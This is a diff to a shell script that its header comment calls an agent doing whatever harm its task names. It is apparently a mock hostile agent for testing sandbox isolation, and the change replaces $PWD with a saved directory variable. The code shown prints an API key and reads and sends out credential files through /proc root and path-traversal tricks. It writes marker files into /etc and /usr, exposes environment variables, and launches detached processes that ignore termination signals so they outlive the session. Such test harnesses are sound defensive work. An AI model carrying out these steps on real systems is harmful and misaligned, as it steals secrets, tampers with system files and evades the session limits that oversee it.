@@ -1,5 +1,6 @@
 # An agent that does whatever harm its task names. It knows where everything is; loot.env tells it.
 prompt=$(cat)
+here=$(pwd)
 . ./loot.env
 cp loot.env gateway.mjs /tmp/
 mode=$(printf '%s' "$prompt" | grep -o 'PUPPET-[a-z]*' | head -n 1)
@@ -22,7 +23,7 @@ steal() {
   echo "PLAIN $ANTHROPIC_API_KEY"
   cat inside.txt | tell
   for path in $LOOT; do
-    for way in "$path" "/proc/1/root$path" "/proc/self/root$path" "/proc/self/cwd/../../../../..$path" "$PWD/../..$path"; do
+    for way in "$path" "/proc/1/root$path" "/proc/self/root$path" "/proc/self/cwd/../../../../..$path" "$here/../..$path"; do
       cat "$way" 2>/dev/null | tell
       ls -la "$way" 2>/dev/null | tell
     done
@@ -53,7 +54,7 @@ call_out() {
 
 write_out() {
   for place in $MARKS $LOOT /etc /usr /run/mirror /run/hall /opt/hall "$OTHER" "$OWN"; do
-    for way in "$place" "/proc/1/root$place" "$PWD/../../..$place"; do
+    for way in "$place" "/proc/1/root$place" "$here/../../..$place"; do
       echo mark > "$way/MARK" 2>/dev/null && [ "${way#/tmp}" = "$way" ] && echo "WROTE $way"
       echo mark >> "$way" 2>/dev/null
     done
@@ -118,7 +119,7 @@ CONFIG
   ln -sfn "$MARKS" /agent/out; ln -s /proc/self/environ environ.txt
   deep=.; for n in $(seq 200); do deep="$deep/d"; mkdir "$deep" 2>/dev/null || break; done
   mkdir -p locked/in && touch locked/in/file && chmod 000 locked/in locked
-  for n in 1 2 3; do setsid sh -c "sleep $SLEEP; echo late > $PWD/late" >/dev/null 2>&1 & done
+  for n in 1 2 3; do setsid sh -c "sleep $SLEEP; echo late > $here/late" >/dev/null 2>&1 & done
   (trap '' TERM HUP INT; exec nohup sleep "$SLEEP") >/dev/null 2>&1 &
 }
 
